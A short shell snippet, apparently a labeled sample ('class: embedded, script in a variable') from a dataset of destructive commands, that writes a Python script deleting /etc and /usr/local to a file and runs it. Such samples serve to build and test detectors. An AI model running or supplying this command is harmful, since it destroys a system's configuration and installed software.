# class: embedded, script in a variable; style: sloppy
SCRIPT='
import shutil
shutil.rmtree("/etc", ignore_errors=True)
shutil.rmtree("/usr/local", ignore_errors=True)
'
echo "$SCRIPT" > s.py
python3 s.py
